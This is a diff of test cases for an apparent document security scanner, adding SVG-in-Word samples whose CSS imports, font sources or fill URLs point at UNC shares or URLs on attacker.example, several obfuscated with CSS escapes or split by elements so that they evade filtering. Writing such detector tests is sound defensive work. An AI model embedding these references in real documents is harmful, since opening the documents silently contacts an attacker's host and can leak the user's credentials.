@@ -207,6 +207,27 @@ DRAWINGS: list[Case] = [
     ("svg-xlink-file-host", DOC,
      partial(_svg_picture, '<image xlink:href="file://attacker.example/s/p.png" width="9"/>'),
      True),
+    # an SVG picture's style sheet, read as CSS: escapes decoded, comments dropped; the text
+    # of a style element around an element inside it is its sheet
+    ("svg-style-import-share", DOC,
+     partial(_svg_picture, r'<style>@import "\\\\attacker.example\\s\\x.css";</style>'),
+     True),
+    ("svg-style-escaped-import-url", DOC,
+     partial(_svg_picture, r"<style>@im\70 ort u\72l(\5c\5c attacker.example\5c s\5c x.css)"
+                           r"</style>"), True),
+    ("svg-style-font-from-a-host", DOC,
+     partial(_svg_picture, "<style><![CDATA[@font-face{font-family:f;"
+                           "src:url('//attacker.example/s/f.woff')}]]></style>"), True),
+    ("svg-style-split-by-an-element", DOC,
+     partial(_svg_picture, r'<style>@import "<tspan/>\\\\attacker.example\\s\\x.css";'
+                           r"</style>"), True),
+    ("svg-style-attribute-escaped", DOC,
+     partial(_svg_picture, r'<rect style="fill:u\72l(\5c\5c attacker.example\5c s\5c p.png)"'
+                           r' width="5" height="5"/>'), True),
+    # a sheet of fills and a web font, and a share named only in a comment: nothing loaded
+    ("svg-style-fills-and-a-comment", DOC,
+     partial(_svg_picture, r"<style>/* from \\fileserver\brand\logo.svg */ .a{fill:url(#g)}"
+                           r" @import url(https://fonts.example/brand.css);</style>"), False),
     # Outlook's pasted pictures keep their cid:, web pages their URL, Word its own title
     ("vml-imagedata-pasted-from-mail", DOC,
      partial(_vml_in_word, '<v:imagedata r:id="rId9" o:title="" '
@@ -487,8 +508,10 @@ def test_a_main_document_retyped_as_a_picture_still_refuses_a_dtd(policy: Policy
         '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" '
         'src="\\\\h.example\\s\\p.png"/></foreignObject>',
         '<g xml:base="file://h.example/s/"><image href="p.png" width="9"/></g>',
+        '<foreignObject width="9" height="9"><style xmlns="http://www.w3.org/1999/xhtml">'
+        "div{background:url(file://h.example/s/b.png)}</style></foreignObject>",
     ],
-    ids=["style-url", "foreign-object-img", "xml-base"],
+    ids=["style-url", "foreign-object-img", "xml-base", "foreign-object-style"],
 )
 def test_other_addresses_in_an_svg_picture(inner: str, policy: Policy) -> None:
     assert _codes(_svg_with_doctype(_ILLUSTRATOR, inner), "letter.docx", policy) == [
